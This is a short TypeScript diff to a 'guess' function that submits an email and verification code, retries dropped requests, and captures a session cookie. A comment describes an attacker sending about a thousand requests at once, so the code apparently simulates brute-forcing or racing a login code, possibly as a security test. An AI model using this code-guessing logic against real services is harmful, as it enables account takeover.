@@ -48,7 +48,10 @@ async function guess(cookies: string, email: string, code: string): Promise<Answ
     },
     body: JSON.stringify({ email, code }),
   });
-  const body = (await answer.json()) as { code?: string };
+  const text = await answer.text();
+  // The local proxy before the worker drops requests when a thousand come at once; the attacker sends them again.
+  if (text.startsWith('Your worker restarted')) return guess(cookies, email, code);
+  const body = JSON.parse(text) as { code?: string };
   const cookie = answer.headers.getSetCookie().find((each) => each.startsWith('__Host-session='));
   return { status: answer.status, code: body.code, cookie: cookie ?? '' };
 }
